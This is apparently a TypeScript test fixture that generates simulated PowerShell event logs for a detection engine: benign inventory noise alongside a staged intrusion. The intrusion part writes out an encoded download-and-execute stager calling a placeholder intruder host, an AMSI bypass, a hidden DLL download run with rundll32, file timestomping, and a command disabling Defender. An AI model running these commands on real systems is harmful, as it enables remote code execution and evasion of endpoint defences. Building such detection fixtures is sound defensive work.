import type { EvtxEvent } from '@svc/engine/testing';
import { at, domain, hosts, intruder, localSystem, people, shells } from './company.ts';
import { PowershellLog } from './powershell-log.ts';

/** What the document's macro hands to PowerShell, encoded. */
export const downloadCommand = `IEX (New-Object Net.WebClient).DownloadString('http://${intruder.delivery}/inv/4471')`;

const secondStage = `$u = 'http://${intruder.delivery}/lib/hpsvc'
[Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$true)
$d = "$env:PUBLIC\\Libraries\\hpsvc.dll"
(New-Object Net.WebClient).DownloadFile($u, $d)
(Get-Item $d).CreationTime = (Get-Item "$env:windir\\System32\\notepad.exe").CreationTime
Start-Process rundll32.exe -ArgumentList "$d,Start" -WindowStyle Hidden
`;

const inventory = 'C:\\Program Files\\HarrowPell\\Inventory\\inventory.ps1';

const inventoryScript = `#Requires -Version 5.1
<#
.SYNOPSIS
  Writes what the asset register needs to know about this machine.
#>
[CmdletBinding()]
param([string]$Target = '\\\\${hosts.files.name}\\Inventory$')

. "$PSScriptRoot\\Get-InstalledSoftware.ps1"

$os = Get-CimInstance -ClassName Win32_OperatingSystem
$report = [pscustomobject]@{
  Computer = $env:COMPUTERNAME
  System   = $os.Caption
  Build    = $os.BuildNumber
  LastBoot = $os.LastBootUpTime
  Software = @(Get-InstalledSoftware)
}
$report | ConvertTo-Json -Depth 4 | Set-Content -Path (Join-Path $Target "$env:COMPUTERNAME.json") -Encoding UTF8
`;

const softwareFunction = `function Get-InstalledSoftware {
  $keys = 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*',
          'HKLM:\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*'
  Get-ItemProperty -Path $keys -ErrorAction SilentlyContinue |
    Where-Object DisplayName |
    Select-Object DisplayName, DisplayVersion, Publisher, InstallDate
}
`;

/** The text that \`-EncodedCommand\` takes. */
export function encode(command: string): string {
  return Buffer.from(command, 'utf16le').toString('base64');
}

/** The hourly inventory: no rule may find anything in it. */
export function powershellNoise(): readonly EvtxEvent[] {
  const log = new PowershellLog(510);
  shells.inventory.forEach((pid, hour) => {
    const start = at(`${String(9 + hour).padStart(2, '0')}:00:03.220`);
    const application = `powershell.exe -NoProfile -ExecutionPolicy AllSigned -File ${inventory}`;
    const shell = log.open(start, pid, { sid: localSystem, user: `${domain.name}\\SYSTEM` }, application);
    log.scriptBlock(start + 702, shell, inventoryScript, inventory);
    log.scriptBlock(
      start + 733,
      shell,
      softwareFunction,
      inventory.replace('inventory.ps1', 'Get-InstalledSoftware.ps1'),
    );
    const steps: readonly (readonly [number, string, Readonly<Record<string, string>>])[] = [
      [911, 'Get-CimInstance', { ClassName: 'Win32_OperatingSystem' }],
      [1388, 'Get-ItemProperty', { Path: 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*' }],
      [2204, 'Where-Object', { Property: 'DisplayName' }],
      [2461, 'ConvertTo-Json', { Depth: '4' }],
      [
        2790,
        'Set-Content',
        { Path: `\\\\${hosts.files.name}\\Inventory$\\${hosts.workstation.name}.json`, Encoding: 'UTF8' },
      ],
    ];
    for (const [delay, command, bindings] of steps)
      log.invoke(start + delay, shell, { command, bindings, script: inventory });
    log.scriptBlock(start + 2465, shell, '{ Set-StrictMode -Version 1; $_.ErrorCategory_Message }');
  });
  return log.events;
}

/** The same intrusion as in the Sysmon log, as PowerShell saw it. */
export function powershellStory(): readonly EvtxEvent[] {
  const log = new PowershellLog(447);
  const user = { sid: people.finance.sid, user: `${domain.name}\\${people.finance.account}` };
  const stagerStart = at('08:52:47.233');
  const stagerCommand = `powershell.exe -nop -w hidden -enc ${encode(downloadCommand)}`;
  const stager = log.open(stagerStart, shells.stager, user, stagerCommand);
  log.scriptBlock(stagerStart + 880, stager, downloadCommand);
  log.scriptBlock(stagerStart + 1690, stager, secondStage, '', true);
  const elevatedStart = at('09:03:24.095');
  const elevated = log.open(elevatedStart, shells.elevated, user, 'powershell.exe -nop -w hidden -c cmd.exe');
  log.scriptBlock(elevatedStart + 590, elevated, 'cmd.exe');
  const defenderStart = at('09:04:02.771');
  const command = 'Set-MpPreference -DisableRealtimeMonitoring $true';
  const defender = log.open(defenderStart, shells.defender, user, `powershell -nop -c ${command}`);
  log.scriptBlock(defenderStart + 640, defender, command);
  const invocation = { command: 'Set-MpPreference', bindings: { DisableRealtimeMonitoring: 'True' }, script: '' };
  log.invoke(defenderStart + 2950, defender, invocation);
  return log.events;
}
